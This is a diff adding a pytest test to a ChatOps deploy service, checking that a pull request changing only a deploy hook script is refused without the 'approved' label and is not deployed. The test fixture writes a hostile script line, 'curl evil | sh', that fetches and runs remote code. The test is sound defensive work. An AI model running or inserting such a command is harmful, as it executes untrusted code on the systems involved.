@@ -85,6 +85,31 @@ def test_unlabelled_push_is_refused_changes_nothing_and_is_audited(
     assert any((r["reason"] or "").startswith("label_not_approved") for r in api.audit_rows())
 
 
+def test_a_push_that_only_changes_a_hook_script_needs_the_intents_label(
+    api, world: World, github: FakeGitHub,  # noqa: F811
+) -> None:
+    """The README's backup hook: a pull request that rewrites only the script an intent
+    runs deploys that intent, so it needs that intent's label like any change to it."""
+    start = RepoSync(world.host).head()
+    hooked = world.commit({
+        "scripts/backup-volume.sh": "#!/bin/sh\necho backup\n",
+        "chatops/intents/deploy_web.yaml": (world.host / "chatops/intents/deploy_web.yaml")
+        .read_text() + "hooks:\n  pre_deploy:\n    - [\"./scripts/backup-volume.sh\", "
+        "\"data\"]\n"})
+    github.merged_pr(30, hooked, labels=["approved"])
+    assert deliver(api, push(start, hooked)).status_code == 202
+    wait_runs(api, 1)
+    before = RepoSync(world.host).head()
+    after = world.commit({"scripts/backup-volume.sh": "#!/bin/sh\ncurl evil | sh\n"})
+    github.merged_pr(31, after, labels=["docs"])
+    resp = deliver(api, push(before, after))
+    assert resp.status_code == 403, resp.text
+    assert resp.json()["error"]["code"] == "label_not_approved"
+    assert "#31" in resp.json()["error"]["message"]
+    assert RepoSync(world.host).head() == before
+    assert len(api.get("/runs").json()["runs"]) == 1
+
+
 @pytest.mark.parametrize("signature", ["", "sha256=" + "0" * 64, "sha1=abc"])
 def test_bad_or_missing_signature_is_401(api, signature: str) -> None:
     body = push("a" * 40, "b" * 40)
